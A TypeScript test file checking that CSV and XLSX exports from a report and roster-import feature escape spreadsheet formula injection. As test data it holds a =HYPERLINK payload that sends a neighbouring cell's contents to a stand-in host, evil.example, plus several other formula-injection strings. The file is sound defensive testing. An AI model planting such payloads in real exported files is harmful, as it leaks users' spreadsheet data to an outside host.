import ExcelJS from "exceljs";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { translator } from "@/lib/i18n/translate";
import { reportCsv } from "@/lib/reports/export";
import type { ReportRow } from "@/lib/reports/get-report";
import { zeroFigures } from "@/lib/reports/figures";
import { buildRejectedFile } from "@/lib/roster/import/rejected-file";
import { toCsv } from "./csv";

const EVIL = '=HYPERLINK("http://evil.example/?"&A3,"点此")';
const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;

describe("CSV cells never run as formulas", () => {
  it("prefixes every cell starting with =, +, -, @, tab or CR with an apostrophe, and leaves numbers alone", () => {
    const dangerous = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1\n2", "+86 573 8412 0000"];
    const safe = ["嘉善恒达纺织有限公司", "-1234.56", "+86", "1234.56", "a=b", ""];
    const [parsed] = cellsOf(toCsv([[...dangerous, ...safe]]));
    expect(parsed).toEqual([...dangerous.map((c) => `'${c}`), "嘉善恒达纺织有限公司", "-1234.56", "+86", "1234.56", "a=b", ""]);
  });

  it("in the report export: a label such as an expert's name is text", () => {
    const row: ReportRow = { ...zeroFigures(), key: "x", label: EVIL, acceptedRequests: 0, medianHoursToAccept: null, p90HoursToAccept: null };
    const csv = reportCsv({
      groupBy: "expert",
      from: "2026-01-01",
      to: "2026-12-31",
      source: "rollups",
      rows: [row],
      totals: { ...row, label: "" },
      page: 1,
      pageSize: 1,
      total: 1,
    });
    expect(cellsOf(csv)[1]![0]).toBe(`'${EVIL}`);
  });

  it("in the import's rejected rows, as CSV; as XLSX the name is a string cell, never a formula", async () => {
    const t = translator("zh-CN");
    const rows = [
      { line: 2, cells: [EVIL, "x"], values: {}, input: null, problems: [{ column: null, key: "errors.field.invalid" as const }], present: false },
    ];
    const csv = await buildRejectedFile({ format: "csv", headers: ["姓名", "执业证号"], rows: [] }, rows, t);
    expect(cellsOf(new TextDecoder().decode(csv.bytes))[1]![0]).toBe(`'${EVIL}`);
    const xlsx = await buildRejectedFile({ format: "xlsx", headers: ["姓名", "执业证号"], rows: [] }, rows, t);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.bytes.buffer as ArrayBuffer);
    const cell = book.worksheets[0]!.getRow(2).getCell(1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(EVIL);
  });
});
